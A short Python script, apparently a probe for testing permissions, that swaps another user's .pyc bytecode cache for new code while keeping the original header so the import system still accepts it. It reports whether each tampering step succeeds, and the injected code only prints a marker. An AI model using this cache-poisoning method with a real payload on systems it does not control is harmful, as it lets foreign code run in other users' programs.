"""The attacker's side: put other code into someone else's cache file, keeping its header.

    python swap_pyc.py CACHE_FILE MARKER

The new code prints MARKER. The header (magic number, and the source's mtime and size or its
hash) is copied from the existing file, so the import system still finds it valid. Prints one
line per step, ``step=ok`` or ``step=<errno name>``: could the file be opened for writing
(open_for_writing), could a new file be created beside it (create_beside), and could that file
be renamed over it (rename_over). Runs on Python 2.7 and 3.x.
"""
import errno
import marshal
import os
import sys

cache_file, marker = sys.argv[1], sys.argv[2]
if sys.version_info < (3, 3):
    header_size = 8     # magic, mtime
elif sys.version_info < (3, 7):
    header_size = 12    # magic, mtime, size
else:
    header_size = 16    # magic, flags, mtime and size or a source hash (PEP 552)


def attempt(step, action):
    try:
        action()
    except (IOError, OSError) as error:
        print("%s=%s" % (step, errno.errorcode.get(error.errno, error.errno)))
        return False
    print("%s=ok" % step)
    return True


def open_for_writing():
    open(cache_file, "ab").close()  # asks for write access, appends nothing


with open(cache_file, "rb") as handle:
    header = handle.read(header_size)
code = compile("print(%r)\n" % marker, "attack", "exec")
replacement = cache_file + ".new"


def create_beside():
    with open(replacement, "wb") as handle:
        handle.write(header + marshal.dumps(code))


def rename_over():
    os.rename(replacement, cache_file)


attempt("open_for_writing", open_for_writing)
if attempt("create_beside", create_beside):
    if not attempt("rename_over", rename_over):
        os.remove(replacement)
